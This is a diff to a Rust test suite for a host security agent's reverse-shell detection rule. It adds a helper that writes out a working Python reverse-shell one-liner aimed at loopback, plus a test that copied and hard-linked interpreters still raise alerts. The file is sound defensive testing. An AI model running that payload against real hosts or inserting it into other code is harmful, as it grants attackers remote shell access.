@@ -359,6 +359,15 @@ fn shell_alerts(records: &[Value], port: u16) -> Vec<&Value> {
         .collect()
 }
 
+/// The usual python one-liner: connect to loopback `port`, dup2 the
+/// socket onto 0, 1, 2, then a pty shell.
+fn python_reverse_shell(port: u16) -> String {
+    format!(
+        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{port}));\
+         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
+    )
+}
+
 #[test]
 fn reverse_shells_are_critical() {
     if !privileged("reverse_shells_are_critical") {
@@ -384,12 +393,10 @@ fn reverse_shells_are_critical() {
 
     // 2. python: connect, dup2 onto 0, 1, 2, then a pty shell.
     let py = Attacker::new();
-    let script = format!(
-        "import socket,os,pty;s=socket.create_connection(('127.0.0.1',{}));\
-         [os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')",
-        py.port
-    );
-    let mut c = Command::new(PYTHON).args(["-c", &script]).spawn().unwrap();
+    let mut c = Command::new(PYTHON)
+        .args(["-c", &python_reverse_shell(py.port)])
+        .spawn()
+        .unwrap();
     let py_pid = c.id();
     assert!(py.drive(&marker).contains(&marker));
     c.wait().unwrap();
@@ -602,5 +609,93 @@ fn near_misses_do_not_raise_reverse_shell() {
         records
             .iter()
             .all(|r| !(get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(sh_pid)))
+    );
+}
+
+/// A copy and a hard link of the system's python under names on no list
+/// are python: rg-reverse-shell knows them by content (SHA-256 against
+/// the system's copy) and by inode. A copy of another program with its
+/// stdio on a socket is not a shell.
+#[test]
+fn copies_and_hard_links_of_an_interpreter_are_still_reverse_shells() {
+    if !privileged("copies_and_hard_links_of_an_interpreter_are_still_reverse_shells") {
+        return;
+    }
+    let real = fs::canonicalize(PYTHON).unwrap();
+    let real_name = real.file_name().unwrap().to_str().unwrap().to_string();
+    let (copy, link, other) = (
+        format!("/tmp/{}", unique("xyz")),
+        format!("/tmp/{}", unique("lnk")),
+        format!("/tmp/{}", unique("qq")),
+    );
+    let _guard = Cleanup(vec![copy.clone(), link.clone(), other.clone()]);
+    fs::copy(&real, &copy).unwrap();
+    fs::hard_link(&real, &link).unwrap();
+    fs::copy("/bin/sleep", &other).unwrap();
+    // A debug build hashes a 6 MB interpreter in about a second: the
+    // alert may wait that long for the copy's hash (release: ~20 ms).
+    let agent = Agent::start(&format!("{CONFIG}[hash]\nalert_wait_ms = 5000\n"));
+    let marker = unique("copied");
+    let mut shells = Vec::new();
+    for bin in [&copy, &link] {
+        let at = Attacker::new();
+        let mut c = Command::new(bin)
+            .args(["-c", &python_reverse_shell(at.port)])
+            .spawn()
+            .unwrap();
+        assert!(at.drive(&marker).contains(&marker));
+        c.wait().unwrap();
+        shells.push((c.id(), at.port));
+    }
+    // Near miss: another binary under a name on no list, started with a
+    // socket on its stdin and stdout.
+    let near = Attacker::new();
+    let conn = TcpStream::connect(("127.0.0.1", near.port)).unwrap();
+    let mut c = Command::new(&other)
+        .arg("0.3")
+        .stdin(Stdio::from(std::os::fd::OwnedFd::from(
+            conn.try_clone().unwrap(),
+        )))
+        .stdout(Stdio::from(std::os::fd::OwnedFd::from(conn)))
+        .spawn()
+        .unwrap();
+    let other_pid = c.id();
+    c.wait().unwrap();
+    agent.wait_for("the near miss's stdio-socket event", |r| {
+        get(r, "event.action") == "stdio_socket" && pid_of(r) == u64::from(other_pid)
+    });
+    let link_pid = shells[1].0;
+    agent.wait_for("the hard link's alert", |r| {
+        r["record_type"] == "alert"
+            && get(r, "rule.id") == "rg-reverse-shell"
+            && pid_of(r) == u64::from(link_pid)
+    });
+    let (status, records, stderr) = agent.stop();
+    assert!(status.success(), "{stderr}");
+
+    for ((pid, port), (bin, how)) in shells
+        .iter()
+        .zip([(&copy, "a copy of"), (&link, "a hard link to")])
+    {
+        let mine = shell_alerts(&records, *port);
+        assert_eq!(mine.len(), 1, "{bin}: {mine:#?}");
+        let a = mine[0];
+        assert_eq!(pid_of(a), u64::from(*pid));
+        assert_eq!(get(a, "event.severity"), 99);
+        let name = bin.rsplit('/').next().unwrap();
+        assert_eq!(
+            get(a, "message").as_str().unwrap(),
+            format!(
+                "{name} ({how} {real_name}) (pid {pid}) has fds 0, 1 on a socket to \
+                 127.0.0.1:{port} (dup2 gave it): an interactive shell over the network"
+            )
+        );
+    }
+    assert!(shell_alerts(&records, near.port).is_empty());
+    assert!(
+        !records.iter().any(|r| r["record_type"] == "alert"
+            && get(r, "rule.id") == "rg-reverse-shell"
+            && pid_of(r) == u64::from(other_pid)),
+        "the near miss alerted"
     );
 }
